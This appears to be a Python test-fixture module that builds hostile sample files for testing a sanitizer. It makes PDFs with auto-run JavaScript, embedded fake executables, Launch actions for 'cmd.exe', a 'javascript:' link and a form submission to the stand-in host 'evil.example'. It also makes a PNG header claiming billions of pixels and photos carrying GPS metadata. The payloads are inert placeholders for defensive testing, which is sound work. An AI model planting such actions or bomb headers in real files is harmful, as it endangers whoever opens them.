"""Files as people and attackers send them, really made."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

DATA = Path(__file__).parents[2] / "data"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
RELATIONSHIPS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
WORDS = "<w:p><w:r><w:t>Ҷамшед Раҳимзода</w:t></w:r></w:p>"
ODT_TYPE = "application/vnd.oasis.opendocument.text"
MANIFEST = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{}</manifest:manifest>'
)
ODT_CONTENT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><text:p>Оби зулол</text:p>{}'
    "</office:document-content>"
)


def archive(parts, *, compression=zipfile.ZIP_DEFLATED):
    """A ZIP of name → content, in this order."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", compression) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return written.getvalue()


def docx(body=WORDS, *, main_type=DOCX_MAIN, relationships="", **more):
    """A DOCX of one paragraph; `more` are further parts by name."""
    document = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{body}</w:document>'
    parts = {
        "[Content_Types].xml": TYPES.format(main_type), "_rels/.rels": RELATIONSHIPS.format(""),
        "word/document.xml": document, "word/_rels/document.xml.rels": RELATIONSHIPS.format(relationships),
    }  # fmt: skip
    return archive(parts | more)


def odt(content="", manifest="", **more):
    """An ODT of one paragraph."""
    parts = {"mimetype": ODT_TYPE, "content.xml": ODT_CONTENT.format(content)}
    return archive(parts | {"META-INF/manifest.xml": MANIFEST.format(manifest)} | more)


def relationship(kind, target, mode="External"):
    """One relationship of a DOCX."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return f'<Relationship Id="r1" Type="{base}{kind}" Target="{target}" TargetMode="{mode}"/>'


def picture(how="JPEG", size=(640, 480), *, mode="RGB", **settings):
    """A picture with something to see in it."""
    drawn = Image.linear_gradient("L").resize(size).convert(mode)
    written = io.BytesIO()
    drawn.save(written, how, **settings)
    return written.getvalue()


def photo(*, turned=1):
    """A JPEG as a phone makes it: with a place, a maker and a way up."""
    facts = Image.Exif()
    facts[0x010F], facts[0x0112] = "GPSPhone", turned
    place = facts.get_ifd(0x8825)
    place.update({1: "N", 2: (43.0, 15.0, 0.0), 3: "E", 4: (76.0, 57.0, 0.0)})
    return picture(exif=facts, comment=b"taken at home")


def vast_png(side=60_000):
    """A PNG that says it has 3.6 thousand million pixels, in a few bytes."""

    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def pdf(change=None, *, pages=1, **settings):
    """A PDF of empty pages; `change(pdf)` puts something in."""
    written = io.BytesIO()
    with pikepdf.new() as made:
        for _number in range(pages):
            made.add_blank_page(page_size=(300, 400))
        if change:
            change(made)
        made.save(written, **settings)
    return written.getvalue()


def script(made):
    """A script that runs when the file is opened, one at a page, one among the names, one behind a link."""
    run = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    made.Root.OpenAction = made.make_indirect(run)
    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(2)")))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), run])))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=run)
    made.pages[0].Annots = Array([made.make_indirect(link)])


def attachment(made):
    """A program as an attachment and as a pin on the page."""
    made.attachments["tool.exe"] = b"MZ program"
    spec = made.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=made.make_stream(b"MZ pin")))
    )
    pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    popup = Dictionary(Type=Name.Annot, Subtype=Name.Popup, Rect=[0, 0, 9, 9], Parent=made.make_indirect(pin))
    made.pages[0].Annots = Array([made.make_indirect(pin), made.make_indirect(popup)])


def actions(made):
    """Links: to a page, to an address, to a program, to a form's address, to a script in the guise of an address."""
    wanted = [
        Dictionary(S=Name.GoTo, D=Array([made.pages[0].obj, Name.Fit])),
        Dictionary(S=Name.URI, URI=String("https://example.org/")),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        Dictionary(S=Name.GoTo, D=String("here"), Next=Dictionary(S=Name.Launch, F=String("next.exe"))),
    ]
    made.pages[0].Annots = Array([
        made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=one)) for one in wanted
    ])  # fmt: skip


def author(made):
    """Who made it, with what and where."""
    made.docinfo["/Author"] = "Secret Author"
    with made.open_metadata() as facts:
        facts["dc:creator"] = ["Secret Author"]
    made.Root.PieceInfo = Dictionary(Tool=Dictionary(LastModified=String("Secret Author")))
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp>Secret Author</xdp>"))
